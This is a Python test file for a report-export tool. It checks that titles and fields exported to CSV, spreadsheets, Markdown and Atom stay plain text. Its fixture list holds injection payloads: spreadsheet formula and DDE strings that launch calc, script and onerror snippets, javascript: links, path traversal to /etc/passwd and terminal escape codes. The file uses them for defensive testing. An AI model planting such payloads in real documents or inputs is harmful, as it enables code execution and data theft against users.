"""Titles, sentences, names and addresses that try tricks stay texts, whatever opens an export."""

import asyncio
import csv
import json
import re
import unicodedata
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import feedparser
import openpyxl
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree, html
from markdown_it import MarkdownIt
from markdown_it.token import Token
from openpyxl.utils.escape import unescape

from cncert.commands.export import ExportCommand
from cncert.items import Issue
from cncert.output.export.harmless_text import escape_formula, replace_unsafe
from cncert.output.export.markdown_format import escaped
from cncert.store import open_store
from cncert.terminal.safe_text import UNSAFE_CHARACTERS
from tests.calls import call
from tests.factories import make_figure, make_issue, make_picture, make_reprint
from tests.stores import put_document

TEXTS = [
    '=HYPERLINK("http://x.invalid?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", " \t=1+1",
    "＝1+1", "﹢1", "−1", "'=1", "'quoted'", 'a","b\r\n=1', "a;=1", "\n=1", "a;' =1\t-2;;+3\r\n@4",
    "<script>alert(1)</script>", "</td></table><img src=x onerror=alert(1)>", "]]></content><entry/>",
    "&lt;b&gt; &amp;amp;",
    "<r><t>x</t></r>", "<r></is></c><c r='A1'><f>1+1</f></c><is></r>", "_x0041_x_x000D_",
    "[x](javascript:alert(1))", "![x](file:///etc/passwd)", "<javascript:alert(1)>",
    "`a` *b* __c__ ~~d~~ $e$ # f | g \\| h",
    "1. a", "+ a", "---", "===", "> a", "[^1]: a", ":::x", "{{x}} {%x%}", "<!-- -->", "```", "    code", "a\n\nb\n# c",
    "\x1b[31mred\x07\x08", "\x9b31m", "\x00\x0b\x7f", "\u202egnp.exe", "\u2066x\u2069", "a\u2028b\u0085c\ufeffd",
    "\ufffe\uffff",
    "../../etc/passwd", "C:\\x\\y", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "𠀀𝒳é",
]  # fmt: skip
ACTING = "=+-@"


def hostile(place: int, text: str) -> Issue:
    """An issue that says *text* wherever it can say anything."""
    year, number = 2012 + place // 50, place % 50 + 1
    paths = [text, f"2012-01/{text}", "../../../etc/passwd", "/etc/passwd", "javascript:alert(1)", "a/../../b.png"]
    return make_issue(
        year, number,
        title=text,
        text=f"{text}\n{text}",
        account={"biz": text, "id": text, "name": text},
        article={"url": f"javascript:alert(1)//{text}", "aliases": [text]},
        provenance={"address": f"https://mp.weixin.qq.com.invalid/s/{text}"},
        sections=[{"heading": text, "text": text}],
        figures=[
            make_figure("hosts.infected", 5, evidence=text, unit=text, section=text, change_pct=-20, picture=text)
        ],
        images=[make_picture(f"{text}{n}", "stored", path=path, url=f"javascript:{text}")
                for n, path in enumerate(paths)],
        warnings=[{"code": "odd_title", "message": text}],
    )  # fmt: skip


ISSUES = [hostile(place, text) for place, text in enumerate(TEXTS)]


async def fill(uri: str, issues: list[Issue]) -> None:
    async with open_store(uri) as store:
        for issue in issues:
            await put_document(store, issue)


@pytest.fixture(scope="module")
def uri(tmp_path_factory: pytest.TempPathFactory) -> str:
    uri = f"sqlite:///{tmp_path_factory.mktemp('store')}/cncert.db"

    asyncio.run(fill(uri, ISSUES))
    return uri


@pytest.fixture(scope="module")
def out(uri: str, tmp_path_factory: pytest.TempPathFactory) -> Path:
    directory = tmp_path_factory.mktemp("export")
    formats = "csv,jsonl,parquet,xlsx,markdown,atom"
    options = ("--format", formats, "--out", str(directory), "--entries", "1000")
    assert call(ExportCommand(), *options, CNCERT_STORE=uri, CNCERT_FILES=str(directory / "pictures")) == 0
    return directory


def acts(cell: str) -> bool:
    """Whether a spreadsheet may take *cell* for a formula: it folds widths, and looks behind what cannot be seen."""
    folded = unicodedata.normalize("NFKC", cell)
    seen = "".join(sign for sign in folded if not sign.isspace() and unicodedata.category(sign) not in ("Cc", "Cf"))
    return seen.replace("\u2212", "-")[:1] in tuple(ACTING) or cell[:1] in ("\t", "\r", "\n")


def pieces(cell: str) -> list[str]:
    """What *cell* is where another sign separates cells."""
    return [cell, *re.split("[;\t\r\n]", cell)[1:]]


def text_of(cell: str) -> str:
    """The text of *cell*, as docs/export.md says."""
    return re.sub("(^|[;\t\r\n])'", r"\1", cell)


def test_no_cell_of_csv_acts_and_each_gives_its_text_back(out: Path) -> None:
    with (out / "figures.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    texts = [row[name] for row in rows for name in ("evidence", "unit", "section", "picture")]
    assert [piece for text in texts for piece in pieces(text) if acts(piece)] == []
    assert [text_of(row["evidence"]) for row in rows] == [replace_unsafe(text) for text in TEXTS]
    assert {row["change_pct"] for row in rows} == {"-20.0"}  # a number stays one


@given(st.text(st.sampled_from("=+-@'＝＋－＠﹦⁺₌−\t\r\n \u3000\u200b\ufeff\u00ad,;\"a1") | st.characters()))
def test_the_guard_of_cells_hides_formulas_and_loses_nothing(text: str) -> None:
    cell = escape_formula(replace_unsafe(text))
    assert not any(map(acts, pieces(cell)))
    assert text_of(cell) == replace_unsafe(text)


def test_cells_of_a_workbook_are_texts(out: Path) -> None:
    book = openpyxl.load_workbook(out / "cncert.xlsx")
    names, _, *rows = book["figures"].iter_rows()
    column = [cell.value for cell in names].index("evidence")
    cells = [row[column] for row in rows]
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr"}
    assert [unescape(cell.value) for cell in cells] == [replace_unsafe(text) for text in TEXTS]
    assert [text for cell, text in zip(cells, TEXTS, strict=True) if acts(text) and not cell.quotePrefix] == []
    with zipfile.ZipFile(out / "cncert.xlsx") as parts:
        assert not [name for name in parts.namelist() if b"<f>" in parts.read(name) or b"hyperlink" in parts.read(name)]


def test_parquet_and_json_lines_have_the_texts(out: Path) -> None:
    texts = [replace_unsafe(text) for text in TEXTS]
    assert pq.read_table(out / "figures.parquet")["evidence"].to_pylist() == texts
    lines = (out / "figures.jsonl").read_text(encoding="utf-8").splitlines()  # no line breaks in between, of any kind
    assert [json.loads(line)["evidence"] for line in lines] == texts


@pytest.mark.parametrize("name", ["csv", "jsonl", "markdown", "atom"])
def test_a_terminal_gets_nothing_that_acts_on_it(
    uri: str, name: str, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    options = () if name in ("markdown", "atom") else ("--table", "issues")
    assert call(ExportCommand(), "--format", name, *options, "--out", "-", CNCERT_STORE=uri) == 0
    printed = capsysbinary.readouterr().out.decode().replace("\r\n", "\n")
    assert len(printed) > 1000
    assert set(UNSAFE_CHARACTERS.findall(printed)) <= {"\n", "\t", "\u200d"}


def test_half_a_surrogate_and_a_noncharacter_are_replaced() -> None:
    assert replace_unsafe("a\ud800b\ufdd0c\n\td") == "a\ufffdb\ufffdc\n\td"


# Markdown

RENDERER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def inline(text: str) -> list[Token]:
    """The parts of all lines of a Markdown *text*."""
    return [part for token in RENDERER.parse(text) for part in (token.children or [])]


def in_one_line(text: str) -> str:
    return " ".join(replace_unsafe(text).split())


@given(st.text(st.sampled_from("\\`*_{}[]()<>#+-.!|~^$&;=:%1a \n\t") | st.characters()).filter(str.strip))
def test_markdown_shows_a_text_as_it_is(text: str) -> None:
    wanted = in_one_line(text)
    tokens = RENDERER.parse(escaped(text))
    assert [token.type for token in tokens] == ["paragraph_open", "inline", "paragraph_close"] * bool(wanted)
    assert {part.type for part in inline(escaped(text))} <= {"text", "text_special"}
    assert "".join(part.content for part in inline(escaped(text))) == wanted
    cells = inline(f"| a |\n| --- |\n| {escaped(text)} |")
    assert "".join(part.content for part in cells) == f"a{wanted}"


def test_a_markdown_file_has_no_html_and_links_to_nothing_foreign(out: Path) -> None:
    for issue in ISSUES:
        text = (out / "markdown" / f"{issue.id}.md").read_text(encoding="utf-8")
        assert [token for token in RENDERER.parse(text) if token.type.startswith("html") or token.type == "fence"] == []
        parts = inline(text)
        assert {part.type for part in parts} <= {"text", "text_special", "image"}
        (title, *_) = (token.children or [] for token in RENDERER.parse(text) if token.type == "inline")
        assert "".join(part.content for part in title) == in_one_line(issue.title)
        sources = [part.attrs["src"] for part in parts if part.type == "image"]
        assert [source for source in sources if not re.fullmatch(r"\.\./pictures/[\w./-]+", str(source))] == []
        assert not [source for source in sources if "/../" in str(source).removeprefix("../")]


@pytest.mark.parametrize(
    ("files", "source"),
    [
        ("{here}/pictures", "../../pictures/2025-03/01-ab.png"),
        ("file://{here}/some%20where/p q", "../../some%2520where/p%20q/2025-03/01-ab.png"),
        ("s3://bucket/pictures", "https://mmbiz.qpic.cn/mmbiz_png/abcdefgh/0"),
    ],
)
def test_a_picture_is_shown_from_its_file_else_from_wechat(tmp_path: Path, files: str, source: str) -> None:
    images = [
        make_picture("mmbiz_png/abcdefgh", "stored", path="2025-03/01-ab.png"),
        make_picture("mmbiz_jpg/ijklmnop", "failed"),
        make_picture("x", "unsupported", url="https://x.invalid/"),
    ]
    uri = f"sqlite:///{tmp_path}/cncert.db"
    asyncio.run(fill(uri, [make_issue(images=images)]))
    given = {"CNCERT_STORE": uri, "CNCERT_FILES": files.format(here=tmp_path)}
    assert call(ExportCommand(), "--format", "markdown", "--out", str(tmp_path / "out"), **given) == 0
    text = (tmp_path / "out" / "markdown" / "2025-03.md").read_text(encoding="utf-8")
    sources = [part.attrs["src"] for part in inline(text) if part.type == "image"]
    assert sources == [source, "https://mmbiz.qpic.cn/mmbiz_jpg/ijklmnop/0"]
    assert "图片 3: unsupported" in text


# Atom


def test_a_feed_is_read_with_its_texts_as_texts(out: Path) -> None:
    feed = feedparser.parse(out / "cncert.atom")
    assert (feed.bozo, feed.version) == (False, "atom10")
    newest_first = ISSUES[::-1]
    assert len(feed.entries) == len({entry.id for entry in feed.entries}) == len(ISSUES)
    for entry, issue in zip(feed.entries, newest_first, strict=True):
        assert html.fromstring(f"<p>{entry.title}</p>").text_content() == in_one_line(issue.title)
        assert entry.get("links", []) == []
        content = html.fragment_fromstring(raw_content(out, entry.id))
        assert {element.tag for element in content.iter()} == {"div", "p", "table", "tr", "td"}
        assert content.xpath("string(.//td[5])") == replace_unsafe(issue.figures[0].evidence)


def test_a_feed_has_what_the_standard_wants(tmp_path: Path) -> None:
    issues = [make_issue(2024, 50 + n) for n in range(3)]
    issues[1] = make_issue(2024, 51, published_at=None, article={"modified_at": None})
    issues[2] = make_issue(2024, 52, article={"modified_at": datetime(2025, 1, 9, tzinfo=UTC)})
    uri = f"sqlite:///{tmp_path}/cncert.db"
    asyncio.run(fill(uri, issues))
    assert call(ExportCommand(), "--out", str(tmp_path / "x.atom"), "--entries", "2", CNCERT_STORE=uri) == 0
    feed = etree.parse(tmp_path / "x.atom").getroot()
    name = {"a": "http://www.w3.org/2005/Atom"}
    assert feed.xpath("a:author/a:name and a:title and starts-with(a:id, 'urn:uuid:')", namespaces=name)
    assert feed.xpath("a:updated/text()", namespaces=name) == ["2025-01-24T09:02:03.456000+08:00"]
    assert feed.xpath("a:entry/a:updated/text()", namespaces=name) == [
        "2025-01-09T08:00:00+08:00", "2025-01-24T09:02:03.456000+08:00",
    ]  # fmt: skip
    assert feed.xpath("a:entry[1]/a:id/text()", namespaces=name) == ["urn:uuid:10758b0d-a765-57a5-b7b8-4a8e5b665960"]
    (link,) = feed.xpath("a:entry[1]/a:link[@rel='alternate']/@href", namespaces=name)
    assert link == issues[2].article.url
    (summary,) = feed.xpath("a:entry[1]/a:summary/text()", namespaces=name)
    assert summary == "总体评级 良；被篡改政府网站 4 个；每IP仿冒页面 2.5；感染病毒主机 278,000"


def test_a_feed_says_in_words_by_when_the_original_of_a_reprint_was_published(tmp_path: Path) -> None:
    by = datetime(2026, 7, 3, 1, tzinfo=UTC)
    origin = {"source": "reprint", "reprint": make_reprint(published_at=by)}
    uri = f"sqlite:///{tmp_path}/cncert.db"
    asyncio.run(fill(uri, [make_issue(2026, 26, published_at=None, provenance=origin)]))
    assert call(ExportCommand(), "--out", str(tmp_path), "--format", "atom,markdown", CNCERT_STORE=uri) == 0
    (entry,) = feedparser.parse(tmp_path / "cncert.atom").entries
    assert ("published" in entry, entry.updated) == (False, "2026-07-03T09:00:00+08:00")
    assert entry.summary.startswith("总体评级 良；不晚于 2026-07-03 发布；")
    assert "不晚于 2026-07-03 发布" in raw_content(tmp_path, entry.id)
    said = (tmp_path / "markdown" / "2026-26.md").read_text(encoding="utf-8")
    assert "| 发布 published | 不晚于 by 2026-07-03 09:00 (UTC+8) |" in said


def raw_content(out: Path, entry: str) -> str:
    """The HTML of an entry: feedparser gives it cleaned."""
    name = {"a": "http://www.w3.org/2005/Atom"}
    (content,) = etree.parse(out / "cncert.atom").xpath(f"//a:entry[a:id='{entry}']/a:content/text()", namespaces=name)
    return str(content)
